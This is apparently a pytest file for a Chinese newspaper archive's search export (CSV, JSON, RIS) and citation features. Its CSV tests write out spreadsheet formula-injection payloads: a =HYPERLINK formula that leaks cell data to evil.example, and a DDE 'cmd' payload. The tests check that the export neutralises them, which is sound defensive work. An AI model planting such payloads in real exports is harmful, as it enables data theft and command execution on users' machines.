"""The whole result set as CSV, JSON and RIS; one article's citation as RIS."""

import csv
import io
import json
from urllib.parse import quote

import pytest
from django.utils import timezone

from articles.citations import gbt7714, ris_record
from tests.factories import make_article


def test_csv_export_holds_every_result(client, archive):
    response = client.get("/search/", {"q": "工会", "sort": "oldest", "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert response.content.startswith("\ufeff".encode())  # UTF-8 with a BOM, so Excel reads the Chinese
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0] == ["引文", "链接", "日期", "期号", "版次", "版名", "引题", "主标题", "副标题", "作者", "主题"]
    rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
    assert [r["主标题"] for r in rows] == ["弘扬工匠精神", "法律援助进车间"]
    assert rows[1]["引文"] == "《职工天地》(2023年01月01日 第A34版)"
    assert rows[1]["链接"] == f"http://testserver/articles/{archive['legal'].pk}/"
    assert rows[1]["日期"] == "2023-01-01" and rows[1]["版次"] == "A34"
    legal = archive["legal"]
    assert rows[1]["版名"] == legal.page.name and rows[1]["期号"] == str(legal.page.issue.number or "")
    assert rows[1]["引题"] == legal.kicker and rows[1]["副标题"] == legal.subtitle
    assert rows[1]["作者"] == "王晓明" and rows[1]["主题"] == "法律援助"
    assert rows[0]["作者"] == "刘飞"


def test_export_file_names_carry_the_query_and_the_date(client, archive):
    today = timezone.localdate().isoformat()
    for fmt in ("csv", "json", "ris"):
        response = client.get("/search/", {"q": "法律 援助/车间", "format": fmt})
        disposition = response["Content-Disposition"]
        name = f"职工天地检索_法律_援助_车间_{today}.{fmt}"
        assert disposition == (
            f"attachment; filename=\"search-results_{today}.{fmt}\"; filename*=UTF-8''{quote(name)}"
        ), disposition


def test_json_export(client, archive):
    response = client.get("/search/", {"q": "援助", "format": "json", "sort": "newest"})
    data = json.loads(response.content)
    assert data["query"] == "援助" and data["count"] == 2
    assert [r["headline"] for r in data["results"]] == ["职代会审议集体合同", "法律援助进车间"]
    assert data["results"][1]["authors"] == ["王晓明"]
    assert data["results"][1]["themes"] == ["法律援助"]
    # Readable as written, with the fields of the CSV.
    assert "法律援助进车间" in response.content.decode() and "\\u" not in response.content.decode()
    assert set(data["results"][1]) == {
        "citation",
        "url",
        "date",
        "issue_number",
        "page",
        "page_name",
        "kicker",
        "headline",
        "subtitle",
        "authors",
        "themes",
    }


def parse_ris(text):
    records, current = [], []
    for line in text.splitlines():
        tag, _, value = line.partition("  - ")
        if tag == "ER":
            records.append(current)
            current = []
        elif tag:
            current.append((tag, value))
    return records


def test_ris_export_is_one_record_per_result(client, archive):
    response = client.get("/search/", {"q": "工会", "format": "ris", "sort": "newest"})
    assert response["Content-Type"].startswith("application/x-research-info-systems")
    records = parse_ris(response.content.decode())
    assert len(records) == 2
    first = dict(records[0])
    assert first["TY"] == "NEWS" and first["TI"] == "法律援助进车间"
    assert first["T2"] == "职工天地" and first["DA"] == "2023/01/01/" and first["SP"] == "A34"
    assert first["AU"] == "王晓明" and first["UR"].endswith(f"/articles/{archive['legal'].pk}/")


def csv_rows(response) -> list[dict[str, str]]:
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    return [dict(zip(table[0], line, strict=True)) for line in table[1:]]


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看原文")'


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(client, archive):
    make_article(
        archive["legal"].page,
        headline=HYPERLINK,
        kicker="+1+cmd|' /C calc'!A0",
        subtitle="-2+3",
        byline="",
        body="<p>电子表格公式测试稿件。</p>",
        themes=["@SUM(1+1)"],
    )
    response = client.get("/search/", {"q": "电子表格公式", "format": "csv"})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    # Excel and LibreOffice show a cell written '=… as the text =…, and run nothing.
    written = HYPERLINK.replace('"', '""')
    assert f'"\'{written}"' in text
    [row] = csv_rows(response)
    assert row["主标题"] == "'" + HYPERLINK
    assert row["引题"] == "'+1+cmd|' /C calc'!A0" and row["副标题"] == "'-2+3" and row["主题"] == "'@SUM(1+1)"
    # Cells a spreadsheet reads as text anyway are as written.
    assert row["引文"] == "《职工天地》(2023年01月01日 第A34版)" and row["日期"] == "2023-01-01"
    assert not any(cell.startswith("=") for line in csv.reader(io.StringIO(text)) for cell in line)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_start_owasp_names_is_neutralised_and_text_is_kept(client, archive, start):
    make_article(archive["legal"].page, headline=f"{start}1+1 电子表格", byline="", body="<p>电子表格公式测试。</p>")
    [row] = csv_rows(client.get("/search/", {"q": "电子表格公式", "format": "csv"}))
    assert row["主标题"] == f"'{start}1+1 电子表格"


def test_json_and_ris_exports_keep_a_formula_like_headline_as_written(client, archive):
    make_article(archive["legal"].page, headline=HYPERLINK, byline="", body="<p>电子表格公式测试稿件。</p>")
    data = json.loads(client.get("/search/", {"q": "电子表格公式", "format": "json"}).content)
    assert [r["headline"] for r in data["results"]] == [HYPERLINK]
    records = parse_ris(client.get("/search/", {"q": "电子表格公式", "format": "ris"}).content.decode())
    assert [dict(record)["TI"] for record in records] == [HYPERLINK]


def test_export_of_nothing_is_refused_with_a_message(client, archive):
    response = client.get("/search/", {"format": "csv"})
    assert response.status_code == 400
    assert "没有可导出的结果" in response.content.decode()


def test_export_never_includes_unpublished(client, archive):
    data = json.loads(client.get("/search/", {"q": "法律援助", "format": "json"}).content)
    assert [r["headline"] for r in data["results"]] == ["法律援助进车间"]


def test_gbt7714_citation_for_a_newspaper(archive):
    assert gbt7714(archive["legal"]) == "王晓明. 法律援助进车间[N]. 职工天地, 2023-01-01(A34)."


def test_gbt7714_with_subtitle_many_authors_and_none(db):
    a = make_article(headline="标题", subtitle="副题", byline="本报记者 张三 李四 王五 赵六")
    assert gbt7714(a) == "张三, 李四, 王五, 等. 标题: 副题[N]. 职工天地, 2023-01-01(A01)."
    b = make_article(a.page, headline="无名", byline="")
    assert gbt7714(b) == "无名[N]. 职工天地, 2023-01-01(A01)."


def test_article_ris_route(client, archive):
    response = client.get(f"/articles/{archive['legal'].pk}/cite.ris")
    assert response.status_code == 200
    (record,) = parse_ris(response.content.decode())
    fields = dict(record)
    assert fields["TI"] == "法律援助进车间" and fields["AU"] == "王晓明" and fields["KW"] == "法律援助"
    assert fields["UR"] == f"http://testserver/articles/{archive['legal'].pk}/"
    assert client.get(f"/articles/{archive['draft'].pk}/cite.ris").status_code == 404
    assert ris_record(archive["legal"]).endswith("ER  - \r\n")


def test_ris_title_carries_the_subtitle(db):
    a = make_article(headline="标题", subtitle="副题", byline="本报记者 张三 李四")
    fields = parse_ris(ris_record(a))[0]
    assert ("TI", "标题: 副题") in fields
    assert [v for k, v in fields if k == "AU"] == ["张三", "李四"]
    assert not any(k == "T3" for k, _ in fields)
